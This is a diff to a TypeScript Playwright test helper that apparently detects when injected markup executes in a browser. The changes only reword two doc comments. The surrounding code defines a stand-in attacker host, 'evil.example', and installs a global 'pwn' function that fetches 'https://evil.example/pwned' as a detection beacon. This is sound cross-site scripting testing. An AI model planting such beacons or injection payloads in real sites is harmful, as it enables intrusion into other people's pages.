@@ -1,4 +1,4 @@
-/** Markup that somebody writes where a text belongs: each marks the element that it would become. */
+/** Markup in place of a text. Each piece marks the element that it would become. */
 import type { BrowserContext, Frame, Page } from "@playwright/test";
 
 const host = "https://evil.example";
@@ -37,7 +37,7 @@ export type Found = Map<number, Set<string>>;
 
 const note = (found: Found, number: number, where: string): void => void found.set(number, (found.get(number) ?? new Set()).add(where));
 
-/** From now on whatever runs of it says so in a request, and each of its requests is noted. */
+/** Reports by a request whenever such markup runs, and notes each of its requests. */
 export async function watchMarkup(context: BrowserContext): Promise<Found> {
   const found: Found = new Map();
   await context.addInitScript(() => Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }));
